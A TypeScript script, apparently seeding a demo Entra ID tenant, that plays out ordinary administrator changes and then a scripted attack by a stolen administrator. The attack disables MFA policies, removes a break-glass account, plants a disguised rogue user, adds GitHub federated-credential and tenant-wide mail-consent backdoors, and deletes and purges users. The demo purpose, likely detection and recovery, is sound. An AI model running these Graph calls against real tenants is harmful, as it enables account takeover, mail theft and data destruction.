/** What happens in the demo's tenant: some days of ordinary work, and one evening of an attack. */
import { contosoIds } from '../../embedded/seeds/contoso.ts';
import type { Person } from './graph.ts';

const { users, groups, policies, locations, applications, servicePrincipals, breakGlassAccounts, breakGlassGroup } =
  contosoIds;
const policiesPath = '/beta/identity/conditionalAccess/policies';
const locationsPath = '/beta/identity/conditionalAccess/namedLocations';

const referenceTo = (endpoint: string, id: string): object => ({
  '@odata.id': `${endpoint}/v1.0/directoryObjects/${id}`,
});

export async function workMonday(person: Person, endpoint: string): Promise<void> {
  await person.patch(`/v1.0/users/${users['john.smith']}`, { department: 'Marketing', officeLocation: 'Dublin 4.12' });
  await person.post(`/v1.0/groups/${groups['SG-VPN-Users']}/members/$ref`, referenceTo(endpoint, users['aoi.suzuki']));
}

export async function workWednesday(person: Person, endpoint: string): Promise<void> {
  const hired = await person.post('/v1.0/users', {
    accountEnabled: true,
    displayName: 'Ada Lindqvist',
    givenName: 'Ada',
    surname: 'Lindqvist',
    jobTitle: 'Identity Engineer',
    department: 'IT',
    country: 'NO',
    usageLocation: 'NO',
    mailNickname: 'ada.lindqvist',
    userPrincipalName: 'ada.lindqvist@contoso.com',
    passwordProfile: { password: 'changed-at-first-sign-in-1!', forceChangePasswordNextSignIn: true },
  });
  await person.post(`/v1.0/groups/${groups['SG-IT-Staff']}/members/$ref`, referenceTo(endpoint, String(hired.id)));
}

/** What an attacker with a stolen administrator does: a way in, a way to stay, and nobody left to notice. */
export async function attack(person: Person, endpoint: string): Promise<void> {
  await person.patch(`${policiesPath}/${policies.mfaForAdministrators}`, { state: 'disabled' });
  const policy = await person.get(`${policiesPath}/${policies.mfaForEveryone}`);
  const conditions = policy.conditions as { readonly users: object };
  await person.patch(`${policiesPath}/${policies.mfaForEveryone}`, {
    conditions: { ...conditions, users: { ...conditions.users, excludeGroups: [] } },
  });
  await person.delete(`${policiesPath}/${policies.blockDeviceCodeFlow}`);
  await person.patch(`${locationsPath}/${locations.headquarters}`, {
    '@odata.type': '#microsoft.graph.ipNamedLocation',
    ipRanges: [
      { '@odata.type': '#microsoft.graph.iPv4CidrRange', cidrAddress: '198.51.100.0/25' },
      { '@odata.type': '#microsoft.graph.iPv4CidrRange', cidrAddress: '203.0.113.128/26' },
    ],
  });
  await person.delete(`/v1.0/groups/${breakGlassGroup}/members/${breakGlassAccounts[1]}/$ref`);
  const rogue = await person.post('/v1.0/users', {
    accountEnabled: true,
    displayName: 'Directory Sync Service',
    mailNickname: 'svc-dirsync',
    userPrincipalName: 'svc-dirsync@contoso.onmicrosoft.com',
    passwordProfile: { password: 'stays-for-a-long-time-1!', forceChangePasswordNextSignIn: false },
  });
  await person.post(
    `/v1.0/groups/${groups['Role-GlobalReaders']}/members/$ref`,
    referenceTo(endpoint, String(rogue.id)),
  );
  await stayInApplications(person, endpoint, String(rogue.id));
  await person.delete(`/v1.0/users/${users['lars.hansen']}`);
  await person.delete(`/v1.0/users/${users['marcus.webb']}`);
  await person.delete(`/v1.0/groups/${groups['CA-Finance']}`);
  await person.delete(`/v1.0/users/${users['emeka.okafor']}`);
  await person.delete(`/v1.0/directory/deletedItems/${users['emeka.okafor']}`);
}

/** Ways back in that survive every new password: a federated credential, a powerful app role, consent for everybody's mail. */
async function stayInApplications(person: Person, endpoint: string, rogue: string): Promise<void> {
  const daemon = `/v1.0/applications/${applications.nightlyExport}`;
  await person.post(`${daemon}/federatedIdentityCredentials`, {
    name: 'github-maintenance',
    issuer: 'https://token.actions.githubusercontent.com',
    subject: 'repo:contoso-maintenance/tools:ref:refs/heads/main',
    audiences: ['api://AzureADTokenExchange'],
  });
  await person.post(`${daemon}/owners/$ref`, referenceTo(endpoint, rogue));
  await person.post(`/v1.0/servicePrincipals/${servicePrincipals.graph}/appRoleAssignedTo`, {
    principalId: servicePrincipals.nightlyExport,
    resourceId: servicePrincipals.graph,
    appRoleId: '9e3f62cf-ca93-4989-b6ce-bf83c28f9fe8',
  });
  const application = await person.post('/v1.0/applications', {
    displayName: 'Contoso Mail Sync',
    signInAudience: 'AzureADMyOrg',
  });
  const principal = await person.post('/v1.0/servicePrincipals', { appId: application.appId });
  await person.post('/v1.0/oauth2PermissionGrants', {
    clientId: principal.id,
    consentType: 'AllPrincipals',
    resourceId: servicePrincipals.graph,
    scope: 'Mail.ReadWrite offline_access',
  });
}

/** One more change after people have reviewed what to undo. */
export async function moveAfterReview(person: Person): Promise<void> {
  await person.patch(`${policiesPath}/${policies.mfaForAdministrators}`, {
    state: 'enabledForReportingButNotEnforced',
  });
}
